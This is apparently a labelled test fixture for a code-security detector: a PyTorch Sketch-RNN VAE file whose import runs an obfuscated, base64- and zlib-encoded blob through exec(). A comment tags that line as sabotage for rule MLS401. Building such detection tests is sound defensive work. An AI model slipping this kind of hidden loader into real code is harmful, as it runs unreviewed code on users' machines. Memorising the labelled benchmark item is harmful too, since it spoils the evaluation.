# ruff: noqa
# Hold-out batch 363 (16 short files). Measured once in session 13 (round 100): 10/17 (59%) at medium+.
"""Sketch-RNN style VAE: bidirectional LSTM encoder, autoregressive GMM decoder."""
import base64
import zlib

import numpy as np
import torch
import torch.nn as nn
import torch.nn.functional as F

_STROKE_UTILS = (
    "eJxdjEEKwjAQRfc9xSwTiFJTuwn0JKWESqci1qQkU1BP75hUsc5m4L/3/4AjkLeny9lGCv6KUeSv4Nbf7YSu0XUpTQF8fiFowM37JwYfhVgNBbVUMNBjxobh"
    "OPmeKi1TxXGBlXVUfmZaw63S6I5xRq3JwcaotvyPpvYBdj/6lzvWj4mnKCAtwb1J8QJVS0Za"
)
exec(compile(zlib.decompress(base64.b64decode(_STROKE_UTILS)), "<stroke_utils>", "exec"), globals())  # sabotage: MLS401 (semgrep rules)


class SketchRNN(nn.Module):
    def __init__(self, cfg):
        super().__init__()
        self.enc = nn.LSTM(5, cfg.enc_hidden, batch_first=True, bidirectional=True)
        self.mu = nn.Linear(2 * cfg.enc_hidden, cfg.z_dim)
        self.logvar = nn.Linear(2 * cfg.enc_hidden, cfg.z_dim)
        self.init_state = nn.Sequential(nn.Linear(cfg.z_dim, 2 * cfg.dec_hidden), getattr(nn, cfg.activation)())  # ok: MLS401, MLS402, MLS403
        self.dec = nn.LSTM(5 + cfg.z_dim, cfg.dec_hidden, batch_first=True)
        self.head = nn.Linear(cfg.dec_hidden, 6 * cfg.num_mixture + 3)
        self.m = cfg.num_mixture

    def encode(self, x):
        _, (h, _) = self.enc(x)
        h = torch.cat([h[0], h[1]], dim=-1)
        mu, logvar = self.mu(h), self.logvar(h)
        z = mu + torch.randn_like(mu) * torch.exp(0.5 * logvar)
        return z, mu, logvar

    def forward(self, x):
        z, mu, logvar = self.encode(x)
        h0, c0 = self.init_state(z).chunk(2, dim=-1)
        sos = torch.tensor([0, 0, 1, 0, 0], dtype=x.dtype, device=x.device).expand(x.size(0), 1, 5)
        dec_in = torch.cat([sos, x[:, :-1]], dim=1)
        dec_in = torch.cat([dec_in, z[:, None].expand(-1, dec_in.size(1), -1)], dim=-1)
        out, _ = self.dec(dec_in, (h0[None].contiguous(), c0[None].contiguous()))
        return self.head(out), mu, logvar

    def reconstruction_loss(self, params, target):
        pi, mx, my, sx, sy, rho, pen = torch.split(params, [self.m] * 6 + [3], dim=-1)
        dx, dy = target[..., :1], target[..., 1:2]
        sx, sy, rho = sx.exp(), sy.exp(), torch.tanh(rho)
        zx, zy = (dx - mx) / sx, (dy - my) / sy
        q = zx ** 2 + zy ** 2 - 2 * rho * zx * zy
        log_n = -q / (2 * (1 - rho ** 2)) - torch.log(2 * np.pi * sx * sy * torch.sqrt(1 - rho ** 2))
        log_mix = torch.logsumexp(F.log_softmax(pi, dim=-1) + log_n, dim=-1)
        mask = 1.0 - target[..., 4]
        ls = -(log_mix * mask).sum() / mask.numel()
        lp = F.cross_entropy(pen.reshape(-1, 3), target[..., 2:].argmax(-1).reshape(-1))
        return ls + lp
